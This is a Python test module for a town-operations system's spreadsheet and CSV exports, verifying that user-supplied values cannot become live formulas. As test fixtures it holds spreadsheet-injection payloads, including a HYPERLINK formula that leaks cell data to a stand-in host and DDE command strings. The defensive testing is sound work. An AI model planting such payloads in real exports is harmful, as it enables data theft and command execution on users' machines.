"""No spreadsheet formula from data (issue 12, finding 13): every export goes through one writer.

A value a resident, a device import or a town file chose (a device model, a unit's name, a
note) that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return must reach the
workbook as text: a string cell, Excel's quote prefix set, the visible value unchanged, and
no ``<f>`` element anywhere in the file. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.orm import Session
from typer.testing import CliRunner

import townops
import townops.cli.device as device_cli
from tests.helpers import NANXIN
from tests.reports.test_health_check_report import NOW, fake_provider
from townops.assessment.service import AssessmentOf, assess
from townops.cli.device import device_app
from townops.jurisdiction.models import Jurisdiction
from townops.kpi.export import xlsx_bytes as kpi_xlsx_bytes
from townops.kpi.figures import Grouping
from townops.kpi.service import build_report
from townops.organization.models import Department
from townops.periods import parse_period
from townops.reports.health_check import build_health_check
from townops.reports.xlsx import xlsx_bytes as health_check_xlsx_bytes
from townops.sensing.devices.registry import import_devices
from townops.sensing.models import Device
from townops.signs.export import write_csv, write_xlsx
from townops.signs.service import compute_signs_by_level, signs_config
from townops.workbook import Book, Formula, csv_cell, is_formula_like

Headers = Callable[[str], dict[str, str]]

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
HOSTILE = (LINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
# Tab and carriage return start a formula too; XML reads a carriage return back as "\n".
HOSTILE_BLANK = ("\t=1+1", "\r=1+1")
HOUSING = "housing_office"
_FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


def formula_free(content: bytes) -> set[str]:
    """Assert that the workbook holds no formula and every formula-like text is plain text
    with the quote prefix; return the formula-like texts it holds."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not _FORMULA_ELEMENT.search(archive.read(name)), name
    found: set[str] = set()
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = (sheet.title, cell.coordinate, cell.value)
                assert cell.data_type not in ("f", "e"), where
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, where
                    found.add(cell.value)
    return found


# ------------------------------------------------------------------------ the writer


def test_text_stays_text_numbers_stay_numbers_and_only_marked_formulas_are_formulas() -> None:
    book = Book()
    sheet = book.sheet("data")
    sheet.append(["name", "count", "rate"])
    for text in (*HOSTILE, "#N/A", "plain", "\x01bell\x07"):
        sheet.append([text, 3, 0.25], formats=[None, "0", "0.0%"])
    total = sheet.append(["total", Formula("=SUM(B2:B7)"), -0.5])
    content = book.to_bytes()

    loaded = load_workbook(io.BytesIO(content))["data"]
    texts = [row[0] for row in loaded.iter_rows(min_row=2, max_row=total - 1, values_only=True)]
    assert texts == [*HOSTILE, "#N/A", "plain", "bell"]  # control characters XML cannot hold
    for row in loaded.iter_rows(min_row=2, max_row=total - 1):
        assert row[0].data_type == "s"
        assert row[0].quotePrefix == is_formula_like(row[0].value)
        assert (row[1].data_type, row[1].value, row[2].value) == ("n", 3, 0.25)
        assert row[2].number_format == "0.0%"
    assert loaded.cell(row=total, column=2).data_type == "f"  # written as Formula: on purpose
    assert loaded.cell(row=total, column=2).value == "=SUM(B2:B7)"
    assert loaded.cell(row=total, column=3).value == -0.5


def test_a_cell_written_past_the_writer_is_made_safe_when_saved() -> None:
    book = Book()
    sheet = book.sheet("raw")
    sheet.ws.append([LINK, "#REF!", "-x", 7])  # straight through openpyxl
    sheet.ws["E1"] = "=1+1"
    assert book.make_safe() == 4
    assert formula_free(book.to_bytes()) == {LINK, "-x", "=1+1"}


def test_tab_and_carriage_return_are_escaped_too() -> None:
    book = Book()
    sheet = book.sheet("blank")
    for text in HOSTILE_BLANK:
        sheet.append([text])
    content = book.to_bytes()
    formula_free(content)
    cells = [row[0] for row in load_workbook(io.BytesIO(content))["blank"].iter_rows()]
    assert [c.value for c in cells] == ["\t=1+1", "\n=1+1"]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_a_formula_is_only_what_starts_with_an_equals_sign() -> None:
    with pytest.raises(ValueError, match="starts with '='"):
        Formula("SUM(A1:A2)")


def test_csv_cells_get_a_quote_and_numbers_do_not() -> None:
    assert csv_cell(LINK) == "'" + LINK
    assert [csv_cell(v) for v in ("-3", "@x", "ok", -3, 0.5, None)] == [
        "'-3",
        "'@x",
        "ok",
        -3,
        0.5,
        "",
    ]


# ------------------------------------------------------------------ device KPI by model


@pytest.fixture
def hostile_model(session: Session) -> str:
    """A registered device whose model is a live-looking HYPERLINK formula."""
    row = {"device_id": "X-EVIL-1", "type": "smoke_detector", "model": "A", "jurisdiction": NANXIN}
    assert import_devices(session, [row]).errors == []
    session.execute(update(Device).where(Device.device_id == "X-EVIL-1").values(model=LINK))
    session.flush()
    return LINK


def test_the_device_kpi_by_model_api_writes_the_model_as_text(
    hostile_model: str, client: TestClient, login: Headers
) -> None:
    params = {"by": "model", "format": "xlsx"}
    r = client.get("/api/v1/sensing/kpi", params=params, headers=login("duty"))
    assert r.status_code == 200, r.text
    assert hostile_model in formula_free(r.content)
    sheet = load_workbook(io.BytesIO(r.content)).active
    models = {row[0].value: row for row in sheet.iter_rows(min_row=3)}
    assert models[hostile_model][2].data_type == "n"  # the device count is still a number


def test_the_device_kpi_command_writes_the_model_as_text(
    hostile_model: str, session: Session, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    @contextmanager
    def this_session(_engine: object) -> Iterator[Session]:
        yield session

    monkeypatch.setattr(device_cli, "engine_for", lambda _settings: None)
    monkeypatch.setattr(device_cli, "transaction", this_session)
    target = tmp_path / "devices.xlsx"
    result = CliRunner().invoke(device_app, ["kpi", "--by", "model", "--xlsx", str(target)])
    assert result.exit_code == 0, result.output
    assert hostile_model in formula_free(target.read_bytes())


# ------------------------------------------------------------------ KPI, assessment


def test_the_kpi_workbook_writes_names_as_text(session: Session) -> None:
    report = build_report(session, by=Grouping.town, period=parse_period(year=2022))
    template = report.rows[-1]
    rows = [
        template.model_copy(update={"code": text, "name_zh": text, "name_en": text})
        for text in HOSTILE
    ]
    content = kpi_xlsx_bytes(report.model_copy(update={"rows": [*rows, template]}))
    assert formula_free(content) >= set(HOSTILE)
    sheet = load_workbook(io.BytesIO(content)).active
    assert [c.data_type for c in sheet[2][3:5]] == ["n", "n"]  # received, closed


@pytest.mark.parametrize("of", list(AssessmentOf))
def test_the_assessment_workbook_writes_unit_names_as_text(
    session: Session, client: TestClient, login: Headers, of: AssessmentOf
) -> None:
    table: type[Department] | type[Jurisdiction] = Department
    code = HOUSING
    if of == AssessmentOf.communities:
        table, code = Jurisdiction, NANXIN
    stmt = update(table).where(table.code == code).values(name_zh=LINK, name_en=HOSTILE[1])
    session.execute(stmt)
    session.flush()
    assert any(row.name_zh == LINK for row in assess(session, month="2022-06", of=of).rows)
    r = client.get("/api/v1/assessment.xlsx", params={"month": "2022-06"}, headers=login("admin"))
    assert r.status_code == 200, r.text
    assert {LINK, HOSTILE[1]} <= formula_free(r.content)


# ------------------------------------------------------------------ signs, health check


def test_the_signs_export_writes_names_and_sources_as_text(
    session: Session, tmp_path: Path
) -> None:
    session.execute(update(Jurisdiction).where(Jurisdiction.code == NANXIN).values(name_zh=LINK))
    session.flush()
    now = datetime(2025, 4, 1, tzinfo=UTC)
    result = compute_signs_by_level(session, level="community", period="2025-03", now=now)
    first = result.nodes[0]
    sign = dataclasses.replace(first.signs[0], source=HOSTILE[2], name_zh=HOSTILE[3])
    nodes = [dataclasses.replace(first, signs=[sign, *first.signs[1:]]), *result.nodes[1:]]
    result = dataclasses.replace(result, nodes=nodes)
    assert LINK in {node.name_zh for node in result.nodes}

    rows = write_xlsx(result, signs_config(session), tmp_path / "signs.xlsx")
    assert rows > 0
    assert {LINK, *HOSTILE[2:]} <= formula_free((tmp_path / "signs.xlsx").read_bytes())

    write_csv(result, tmp_path / "signs.csv")
    with (tmp_path / "signs.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = {cell for row in csv.reader(handle) for cell in row}
    assert "'" + LINK in cells and LINK not in cells
    assert not any(is_formula_like(cell) for cell in cells)


def test_the_health_check_workbook_writes_area_names_as_text(session: Session) -> None:
    stmt = update(Jurisdiction).where(Jurisdiction.code == NANXIN)
    session.execute(stmt.values(name_zh=LINK, name_en=HOSTILE[1]))
    session.flush()
    report = build_health_check(session, fake_provider(session), year=2022, now=NOW)
    assert LINK in {area.name_zh for area in report.areas}
    assert {LINK, HOSTILE[1]} <= formula_free(health_check_xlsx_bytes(report))


# ------------------------------------------------------------------ one writer


def test_only_the_writer_creates_workbooks() -> None:
    """A new export cannot bypass the writer with a workbook of its own."""
    src = Path(townops.__file__).parent
    creating = re.compile(r"from openpyxl import [^\n]*\bWorkbook\b|openpyxl\.Workbook\b")
    writers = {
        path.relative_to(src).as_posix()
        for path in src.rglob("*.py")
        if creating.search(path.read_text(encoding="utf-8"))
    }
    assert writers <= {"workbook.py"}
    assert "workbook.py" in writers
